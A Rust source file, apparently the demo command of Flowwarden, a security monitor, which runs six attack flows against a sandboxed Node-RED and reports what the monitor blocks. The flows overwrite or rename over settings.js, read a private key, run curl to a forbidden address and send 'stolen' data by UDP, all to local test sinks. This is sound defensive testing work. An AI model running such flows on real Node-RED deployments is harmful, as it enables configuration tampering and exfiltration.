//! `cargo xtask demo`: six attacks on a throw-away Node-RED, and what Flowwarden makes of them.

use std::{
    env, fs,
    path::PathBuf,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result};
use clap::Args;
use flowwarden_tests::{
    flows::{FileAction, Flow, js},
    guard::Guard,
    needs,
    netns::Network,
    node_red::{NodeRed, Outcome, VERSION},
    policy::Policy,
    scene::Scene,
    sink::Sink,
    snapshot::{Snapshot, State},
    tools::Step,
    user::User,
    wait,
};

use crate::{build, links, shell, signals};

const SECRET: &str = "-----THE PRIVATE KEY-----";

/// What an attack is after.
#[derive(Clone, Copy)]
enum Prize {
    Settings,
    Key,
    Tcp,
    Udp,
}

/// One attack.
struct Attack {
    title: &'static str,
    flow: Flow,
    prize: Prize,
}

/// A line of the table at the end.
struct Row {
    title: &'static str,
    verdict: String,
    harm: String,
}

/// Where the demo takes place. Fields are dropped in this order: the user goes last, when nothing runs under it any more.
struct Stage {
    scene: Scene,
    settings: Snapshot,
    key: PathBuf,
    tcp: Sink,
    udp: Sink,
    user: User,
}

/// What `cargo xtask demo` is asked for.
#[derive(Args)]
pub(crate) struct Options {
    /// Everything is built: go on from there
    #[arg(long, hide = true)]
    built: bool,
}

/// `cargo xtask demo`.
pub(crate) fn run(options: &Options) -> Result<()> {
    if !options.built {
        build::before(&[Step::Demo])?;
    }
    if !shell::is_root() {
        // It makes a user and a network namespace. cargo, which root may not have, is done by now.
        let own = env::current_exe().context("this program's own file cannot be found")?;
        return shell::become_root("The demo", &own, &["demo", "--built"]);
    }
    links::enter(Step::Demo, &["demo", "--built"])?;
    signals::end_waits()?;

    println!("\nNode-RED {VERSION} starts under a user of its own, in a network namespace of its own ...");
    let mut stage = Stage::new()?;
    let policy = policy(&stage.scene.node_red);
    println!("... as user {} (uid {}). This is the policy:\n", stage.user.name(), stage.user.uid());
    println!("{}", indent(policy.text().trim_end()));
    let mut guard = Guard::start(Some(&policy), &stage.scene.cgroup, &[])?;
    println!("\nflowwarden says:\n{}", indent(&guard.console().text()));

    let attacks = stage.attacks();
    let mut table = Vec::new();
    for (number, attack) in attacks.iter().enumerate() {
        println!("\n[{}/{}] {}", number + 1, attacks.len(), attack.title);
        table.push(stage.play(attack, &guard)?);
    }

    let memory = guard.memory()?;
    guard.end()?;
    let journal = needs::target().join("demo/journal.jsonl");
    fs::create_dir_all(journal.parent().context("the journal has no directory")?)?;
    guard.keep_journal(&journal)?;
    print_table(&table);
    println!(
        "\nWhere settings.js came to harm, the kernel sensor that runs here can kill but not deny: an open that cuts the file\n\
         and a rename have happened by the time it acts (docs/design.md). The alert and the journal say so each time."
    );
    println!("\njournal: {}", journal.display());
    let mib = |kib: u64| f64::from(u32::try_from(kib).unwrap_or(u32::MAX)) / 1024.0;
    println!("flowwarden held {:.1} MiB of memory, {:.1} MiB at most", mib(memory.now_kib), mib(memory.peak_kib));
    Ok(())
}

fn policy(node_red: &NodeRed) -> Policy {
    Policy::enforce(node_red).guard_settings().file("certs/*.pem", &["read"], "kill", "private-keys").egress(
        &[Network::FORBIDDEN_NET],
        "deny",
        "forbidden-net",
    )
}

impl Stage {
    fn new() -> Result<Self> {
        let user = User::create()?;
        let mut scene = Scene::with_uid(user.uid())?;
        scene.node_red.start()?;
        scene.node_red.home().directory(".node-red/certs")?;
        Ok(Self {
            settings: Snapshot::take(&scene.node_red.settings())?,
            key: scene.node_red.home().file(".node-red/certs/key.pem", SECRET)?,
            tcp: Sink::tcp(&scene.network, Network::FORBIDDEN)?,
            udp: Sink::udp(&scene.network, Network::FORBIDDEN)?,
            scene,
            user,
        })
    }

    fn attacks(&self) -> [Attack; 6] {
        let path = self.scene.node_red.settings();
        let settings = js(&path);
        let (tcp, udp) = (self.tcp.address(), self.udp.address());
        [
            Attack {
                title: "a file node overwrites settings.js",
                flow: Flow::file(&path, FileAction::Overwrite, "module.exports = {}"),
                prize: Prize::Settings,
            },
            Attack {
                title: "a Function node renames a file of its own over settings.js",
                flow: Flow::function(
                    &format!(
                        "fs.writeFileSync({settings} + '.new', 'module.exports = {{}}');
                         fs.renameSync({settings} + '.new', {settings}); return msg;"
                    ),
                    &["fs"],
                ),
                prize: Prize::Settings,
            },
            Attack {
                title: "a worker thread of a Function node appends to settings.js",
                flow: Flow::function(
                    &format!(
                        "const code = `require('fs').appendFileSync(${{JSON.stringify({settings})}}, 'EVIL')`;
                         new worker_threads.Worker(code, {{ eval: true }}).on('exit', () => node.send(msg)); return;"
                    ),
                    &["worker_threads"],
                ),
                prize: Prize::Settings,
            },
            Attack { title: "a file-in node reads a private key", flow: Flow::file_in(&self.key), prize: Prize::Key },
            Attack {
                title: "an exec node runs curl to a forbidden address",
                flow: Flow::exec(&format!("curl --silent --show-error --max-time 5 http://{tcp}/")),
                prize: Prize::Tcp,
            },
            Attack {
                title: "a Function node sends data in a UDP datagram",
                flow: Flow::function(
                    &format!(
                        "const socket = dgram.createSocket('udp4');
                         socket.send('stolen', {}, '{}', error => {{
                             socket.close();
                             error ? node.error(error.message, msg) : node.send(msg);
                         }}); return;",
                        udp.port(),
                        udp.ip()
                    ),
                    &["dgram"],
                ),
                prize: Prize::Udp,
            },
        ]
    }

    fn play(&mut self, attack: &Attack, guard: &Guard) -> Result<Row> {
        if !self.scene.node_red.alive()? {
            println!("  (Node-RED is started again)");
            self.scene.node_red.start()?;
        }
        let printed = self.scene.node_red.console().mark();
        let alerts = guard.console().mark();
        let known = guard.journal()?.len();
        let outcome = self.scene.node_red.play(&attack.flow)?;
        println!("  Node-RED:   {}", describe(&outcome));

        let verdict = verdict(guard, known)?;
        let harm = self.harm(attack.prize, printed)?;
        println!("  harm:       {harm}");
        for line in guard.console().since(alerts) {
            println!("  flowwarden: {line}");
        }
        self.settings.restore()?;
        Ok(Row { title: attack.title, verdict, harm })
    }

    fn harm(&self, prize: Prize, printed: usize) -> Result<String> {
        let arrived = |sink: &Sink, what| match sink.count() {
            0 => format!("none, the address got no {what}"),
            count => format!("{count} {what}(s) arrived"),
        };
        Ok(match prize {
            Prize::Settings => match self.settings.state()? {
                State::Intact => "none, settings.js is intact".to_owned(),
                State::Emptied => "settings.js was cut before the kill, nothing was written".to_owned(),
                State::Changed => "settings.js is changed".to_owned(),
                State::Replaced => "settings.js is replaced".to_owned(),
                State::Missing => "settings.js is gone".to_owned(),
            },
            Prize::Key => match self.scene.node_red.console().find(printed, |line| line.contains(SECRET)) {
                None => "none, the key did not come out".to_owned(),
                Some(_) => "the key came out".to_owned(),
            },
            Prize::Tcp => arrived(&self.tcp, "connection"),
            Prize::Udp => arrived(&self.udp, "datagram"),
        })
    }
}

/// The strictest verdict among the records after the first `known`; they come within a moment.
fn verdict(guard: &Guard, known: usize) -> Result<String> {
    const STRICTNESS: [&str; 3] = ["log", "deny", "kill"];
    const LONGEST: Duration = Duration::from_secs(3);
    let start = Instant::now();
    loop {
        wait::pause(Duration::from_millis(200))?;
        let records = guard.journal()?;
        let verdicts = records.get(known..).unwrap_or_default().iter().map(|record| record.verdict().to_owned());
        let rank = |verdict: &String| STRICTNESS.iter().position(|known| known == verdict);
        let strictest = verdicts.filter(|verdict| rank(verdict).is_some()).max_by_key(rank);
        if let Some(verdict) = strictest {
            return Ok(verdict);
        }
        if start.elapsed() > LONGEST {
            return Ok("none".to_owned());
        }
    }
}

fn describe(outcome: &Outcome) -> String {
    let short = |text: &str| text.lines().map(str::trim).collect::<Vec<_>>().join(" ");
    match outcome {
        Outcome::Answered(text) => format!("the flow ran to its end: {}", short(text)),
        Outcome::Failed(text) => format!("the node failed: {}", short(text)),
        Outcome::Died(status) if outcome.is_killed() => format!("its process was killed ({status})"),
        Outcome::Died(status) => format!("its process ended ({status})"),
    }
}

fn print_table(rows: &[Row]) {
    let width = rows.iter().map(|row| row.title.len()).max().unwrap_or_default();
    println!("\n{:width$}  {:7}  harm", "attack", "verdict");
    for row in rows {
        println!("{:width$}  {:7}  {}", row.title, row.verdict, row.harm);
    }
}

fn indent(text: &str) -> String {
    text.lines().map(|line| format!("    {line}")).collect::<Vec<_>>().join("\n")
}
